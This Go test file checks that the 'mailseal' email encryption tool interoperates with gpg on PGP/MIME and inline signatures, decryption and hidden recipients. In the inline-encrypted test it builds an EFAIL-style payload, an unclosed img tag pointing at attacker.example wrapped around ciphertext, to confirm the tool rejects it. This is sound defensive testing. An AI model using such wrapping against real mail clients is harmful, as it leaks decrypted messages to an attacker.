package main

import (
	"bytes"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
)

// peers is a mailseal keystore and a gpg home that know each other:
// Alice's key is made by mailseal, Greg's (Ed25519) and Rita's (RSA-3072)
// by gpg; each side has imported the other's public keys.
type peers struct {
	t        *testing.T
	home     string // mailseal keystore
	gnupg    string // GNUPGHOME
	passFile string
	alice    string // fingerprints
	greg     string
	rita     string
}

func newPeers(t *testing.T) *peers {
	t.Helper()
	if _, err := exec.LookPath("gpg"); err != nil {
		t.Fatal("gpg is needed for the interop tests: install gnupg (scripts/test.sh does)")
	}
	dir := t.TempDir()
	p := &peers{t: t, home: filepath.Join(dir, "ms"), gnupg: filepath.Join(dir, "gpg"), passFile: filepath.Join(dir, "pass")}
	os.MkdirAll(p.gnupg, 0o700)
	os.WriteFile(p.passFile, []byte("alice-pass\n"), 0o600)
	out, _ := p.ms(nil, 0, "keys", "generate", "--pgp", "--uid", "Alice <alice@example.org>")
	p.alice = strings.TrimSpace(string(out))
	p.greg = p.gpgGenKey("Greg <greg@example.org>", "ed25519", "cv25519")
	p.rita = p.gpgGenKey("Rita <rita@example.org>", "rsa3072", "rsa3072")
	// Exchange public keys both ways.
	pub, _ := p.ms(nil, 0, "keys", "export", "alice@example.org")
	p.gpg(pub, "--import")
	gregPub := p.gpg(nil, "--armor", "--export", "greg@example.org", "rita@example.org")
	p.ms(gregPub, 0, "keys", "import")
	return p
}

// ms runs the CLI in-process and checks its exit code.
func (p *peers) ms(stdin []byte, wantCode int, args ...string) (stdout, stderr []byte) {
	p.t.Helper()
	var out, errb bytes.Buffer
	full := append([]string{"mailseal", "--home", p.home, "--passphrase-file", p.passFile}, args...)
	code := run(full, bytes.NewReader(stdin), &out, &errb)
	if code != wantCode {
		p.t.Fatalf("mailseal %s: exit %d, want %d\nstderr: %s", strings.Join(args, " "), code, wantCode, errb.String())
	}
	return out.Bytes(), errb.Bytes()
}

func (p *peers) gpgCmd(stdin []byte, args ...string) *exec.Cmd {
	full := append([]string{"--homedir", p.gnupg, "--batch", "--yes", "--pinentry-mode", "loopback",
		"--passphrase", "", "--trust-model", "always"}, args...)
	cmd := exec.Command("gpg", full...)
	cmd.Stdin = bytes.NewReader(stdin)
	return cmd
}

func (p *peers) gpg(stdin []byte, args ...string) []byte {
	p.t.Helper()
	var out, errb bytes.Buffer
	cmd := p.gpgCmd(stdin, args...)
	cmd.Stdout, cmd.Stderr = &out, &errb
	if err := cmd.Run(); err != nil {
		p.t.Fatalf("gpg %s: %v\n%s", strings.Join(args, " "), err, errb.String())
	}
	return out.Bytes()
}

// gpgStatus runs gpg with --status-fd 2 and returns stdout and the status lines.
func (p *peers) gpgStatus(stdin []byte, args ...string) ([]byte, string, error) {
	var out, errb bytes.Buffer
	cmd := p.gpgCmd(stdin, append([]string{"--status-fd", "2"}, args...)...)
	cmd.Stdout, cmd.Stderr = &out, &errb
	err := cmd.Run()
	return out.Bytes(), errb.String(), err
}

// gpgGenKey makes a gpg key with a signing primary and an encryption subkey.
func (p *peers) gpgGenKey(uid, primary, sub string) string {
	p.gpg(nil, "--quick-gen-key", uid, primary, "cert,sign", "never")
	fpr := p.gpgFingerprint(uid)
	p.gpg(nil, "--quick-add-key", fpr, sub, "encr", "never")
	return fpr
}

func (p *peers) gpgFingerprint(uid string) string {
	out := p.gpg(nil, "--with-colons", "--list-keys", uid)
	m := regexp.MustCompile(`(?m)^fpr:+([0-9A-F]{40}):`).FindSubmatch(out)
	if m == nil {
		p.t.Fatalf("no fingerprint for %s in %s", uid, out)
	}
	return string(m[1])
}

func (p *peers) writeTemp(name string, data []byte) string {
	path := filepath.Join(p.t.TempDir(), name)
	if err := os.WriteFile(path, data, 0o600); err != nil {
		p.t.Fatal(err)
	}
	return path
}

func crlf(s string) []byte {
	return []byte(strings.ReplaceAll(strings.ReplaceAll(s, "\r\n", "\n"), "\n", "\r\n"))
}

const aliceToGreg = `From: Alice <alice@example.org>
To: Greg <greg@example.org>, Rita <rita@example.org>
Subject: interop
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Grüße from mailseal to gpg.
-- 
Alice
`

// gpg verifies and decrypts what mailseal writes.
func TestGPGReadsMailsealMail(t *testing.T) {
	p := newPeers(t)
	msg := []byte(aliceToGreg)

	// The large message's signed part is hashed beside the writing.
	large := append([]byte(aliceToGreg), strings.Repeat("a line of the large interop message for gpg\n", 15000)...)
	for name, msg := range map[string][]byte{"signed": msg, "signed-large": large} {
		t.Run(name, func(t *testing.T) {
			signed, _ := p.ms(msg, 0, "sign", "--pgp")
			part1, err := partBody(signed, "raw1")
			if err != nil {
				t.Fatal(err)
			}
			sig, err := partBody(signed, "2")
			if err != nil {
				t.Fatal(err)
			}
			if bytes.Contains(part1, []byte("ü")) {
				t.Fatal("8bit content was signed without a 7-bit transfer encoding")
			}
			sigFile := p.writeTemp("sig.asc", sig)
			_, status, err := p.gpgStatus(nil, "--verify", sigFile, p.writeTemp("part1", part1))
			if err != nil || !strings.Contains(status, "[GNUPG:] VALIDSIG "+p.alice) {
				t.Fatalf("gpg does not verify mailseal's signature of %d bytes: %v\n%s", len(part1), err, status)
			}
			altered := bytes.Replace(part1, []byte("Alice"), []byte("Alicf"), 1)
			if _, status, _ := p.gpgStatus(nil, "--verify", sigFile, p.writeTemp("part1", altered)); !strings.Contains(status, "BADSIG") {
				t.Fatalf("gpg accepted the altered part:\n%s", status)
			}
		})
	}
	for _, sign := range []bool{false, true} {
		t.Run(fmt.Sprintf("encrypted-sign=%v", sign), func(t *testing.T) {
			args := []string{"encrypt", "--pgp"}
			if sign {
				args = append(args, "--sign")
			}
			enc, _ := p.ms(msg, 0, args...)
			payload, err := partBody(enc, "2")
			if err != nil {
				t.Fatal(err)
			}
			plain, status, err := p.gpgStatus(payload, "--decrypt")
			if err != nil || !strings.Contains(status, "DECRYPTION_OKAY") {
				t.Fatalf("gpg cannot decrypt: %v\n%s", err, status)
			}
			if !bytes.Contains(plain, []byte("Content-Type: text/plain")) || !bytes.Contains(plain, []byte("from mailseal to gpg")) {
				t.Fatalf("gpg decrypted to %q", plain)
			}
			if sign != strings.Contains(status, "VALIDSIG "+p.alice) {
				t.Fatalf("signature status from gpg, sign=%v:\n%s", sign, status)
			}
		})
	}
}

// mailseal verifies and decrypts what gpg writes: detached signatures and
// encrypted data wrapped into PGP/MIME, and inline bodies.
func TestMailsealReadsGPGMail(t *testing.T) {
	p := newPeers(t)
	for _, signer := range []string{"greg", "rita"} {
		from := fmt.Sprintf("%s <%s@example.org>", strings.ToUpper(signer[:1])+signer[1:], signer)
		t.Run("pgpmime-signed-"+signer, func(t *testing.T) {
			entity := crlf("Content-Type: text/plain; charset=us-ascii\nContent-Transfer-Encoding: quoted-printable\n\nSigned by gpg with a long line that is soft-=\nbroken.  \nTrailing spaces above.\n")
			if signer == "rita" {
				// A folded header and a base64 attachment.
				entity = crlf("Content-Type: multipart/mixed;\n boundary=\"inner\"\n\n--inner\nContent-Type: text/plain;\n\tcharset=utf-8\nContent-Transfer-Encoding: base64\n\nR3LDvMOfZSBmcm9tIFJpdGEK\n--inner\nContent-Type: application/octet-stream; name=\"a.bin\"\nContent-Transfer-Encoding: base64\n\nAAECAwQFBgcICQ==\n--inner--\n")
			}
			sig := p.gpg(entity, "--armor", "--detach-sign", "--local-user", signer+"@example.org")
			var b bytes.Buffer
			fmt.Fprintf(&b, "From: %s\r\nTo: alice@example.org\r\nSubject: gpg signed\r\nMIME-Version: 1.0\r\n", from)
			b.WriteString("Content-Type: multipart/signed; micalg=pgp-sha512;\r\n protocol=\"application/pgp-signature\"; boundary=\"gpgb\"\r\n\r\n")
			b.WriteString("This is an OpenPGP/MIME signed message.\r\n--gpgb\r\n")
			b.Write(entity)
			b.WriteString("\r\n--gpgb\r\nContent-Type: application/pgp-signature; name=\"signature.asc\"\r\n\r\n")
			b.Write(crlf(string(sig)))
			b.WriteString("\r\n--gpgb--\r\n")
			out, _ := p.ms(b.Bytes(), 0, "verify", "--json")
			want := p.greg
			if signer == "rita" {
				want = p.rita
			}
			if !bytes.Contains(out, []byte(`"status":"good"`)) || !bytes.Contains(out, []byte(want)) {
				t.Fatalf("report: %s", out)
			}
			// And with LF line endings, as stored in mbox/Maildir.
			out, _ = p.ms(bytes.ReplaceAll(b.Bytes(), []byte("\r\n"), []byte("\n")), 0, "verify", "--json")
			if !bytes.Contains(out, []byte(`"status":"good"`)) {
				t.Fatalf("LF copy: %s", out)
			}
		})
		t.Run("pgpmime-encrypted-signed-"+signer, func(t *testing.T) {
			entity := crlf("Content-Type: text/plain; charset=us-ascii\n\nEncrypted and signed by gpg.\n")
			ct := p.gpg(entity, "--armor", "--encrypt", "--sign", "--local-user", signer+"@example.org", "--recipient", "alice@example.org")
			var b bytes.Buffer
			fmt.Fprintf(&b, "From: %s\r\nTo: alice@example.org\r\nSubject: gpg encrypted\r\nMIME-Version: 1.0\r\n", from)
			b.WriteString("Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"gpge\"\r\n\r\n")
			b.WriteString("--gpge\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--gpge\r\nContent-Type: application/octet-stream\r\n\r\n")
			b.Write(crlf(string(ct)))
			b.WriteString("\r\n--gpge--\r\n")
			out, report := p.ms(b.Bytes(), 0, "decrypt", "--json")
			if !bytes.Contains(out, []byte("Encrypted and signed by gpg.")) || !bytes.Contains(out, []byte("Subject: gpg encrypted")) {
				t.Fatalf("decrypted: %s", out)
			}
			if !bytes.Contains(report, []byte(`"status":"good"`)) || !bytes.Contains(report, []byte(`"integrity":"mdc"`)) {
				t.Fatalf("report: %s", report)
			}
		})
	}
	// gpg --throw-keyids: the key packet names no recipient (key ID 0),
	// so every stored secret key is tried.
	t.Run("pgpmime-encrypted-hidden-recipient", func(t *testing.T) {
		entity := crlf("Content-Type: text/plain; charset=us-ascii\n\nTo a hidden recipient.\n")
		ct := p.gpg(entity, "--armor", "--encrypt", "--throw-keyids", "--recipient", "alice@example.org")
		var b bytes.Buffer
		b.WriteString("From: Greg <greg@example.org>\r\nTo: alice@example.org\r\nSubject: hidden\r\nMIME-Version: 1.0\r\n")
		b.WriteString("Content-Type: multipart/encrypted; protocol=\"application/pgp-encrypted\"; boundary=\"gpge\"\r\n\r\n")
		b.WriteString("--gpge\r\nContent-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n\r\n--gpge\r\nContent-Type: application/octet-stream\r\n\r\n")
		b.Write(crlf(string(ct)))
		b.WriteString("\r\n--gpge--\r\n")
		out, _ := p.ms(b.Bytes(), 0, "decrypt")
		if !bytes.Contains(out, []byte("To a hidden recipient.")) {
			t.Fatalf("decrypted: %s", out)
		}
	})
	inline := func(body []byte) []byte {
		return append(crlf("From: Greg <greg@example.org>\nTo: alice@example.org\nSubject: inline\nContent-Type: text/plain; charset=utf-8\n\n"), body...)
	}
	t.Run("inline-clearsigned", func(t *testing.T) {
		signed := p.gpg([]byte("Clear-signed by gpg.\n- a dash line\n"), "--clearsign", "--local-user", "greg@example.org")
		out, _ := p.ms(inline(signed), 0, "verify", "--json")
		if !bytes.Contains(out, []byte(`"status":"good"`)) {
			t.Fatalf("report: %s", out)
		}
		// Text outside the signed block makes it partial.
		out, _ = p.ms(inline(append(signed, []byte("\nAppended by someone else.\n")...)), 1, "verify", "--json")
		if !bytes.Contains(out, []byte(`"status":"partial"`)) {
			t.Fatalf("report: %s", out)
		}
	})
	t.Run("inline-armored-signed", func(t *testing.T) {
		signed := p.gpg([]byte("Signed by gpg --armor --sign.\n"), "--armor", "--sign", "--local-user", "greg@example.org")
		out, _ := p.ms(inline(signed), 0, "verify", "--json")
		if !bytes.Contains(out, []byte(`"status":"good"`)) {
			t.Fatalf("report: %s", out)
		}
	})
	t.Run("inline-encrypted", func(t *testing.T) {
		ct := p.gpg([]byte("Inline secret from gpg.\n"), "--armor", "--encrypt", "--sign", "--local-user", "greg@example.org", "--recipient", "alice@example.org")
		out, report := p.ms(inline(ct), 0, "decrypt", "--json")
		if !bytes.Contains(out, []byte("Inline secret from gpg.")) || !bytes.Contains(report, []byte(`"status":"good"`)) {
			t.Fatalf("decrypted %s\nreport %s", out, report)
		}
		// With attacker text around the block: not merged, exit 1, no output.
		wrapped := inline(append(append([]byte("<img src=\"http://attacker.example/\n"), ct...), []byte("\">\n")...))
		out, report = p.ms(wrapped, 1, "decrypt", "--json")
		if len(out) != 0 || !bytes.Contains(report, []byte(`"status":"partial"`)) {
			t.Fatalf("wrapped inline ciphertext: out %q report %s", out, report)
		}
		// Named explicitly, the block alone is output.
		out, _ = p.ms(wrapped, 0, "decrypt", "--part", "1")
		if !bytes.Contains(out, []byte("Inline secret from gpg.")) || bytes.Contains(out, []byte("attacker")) {
			t.Fatalf("--part 1: %s", out)
		}
	})
}
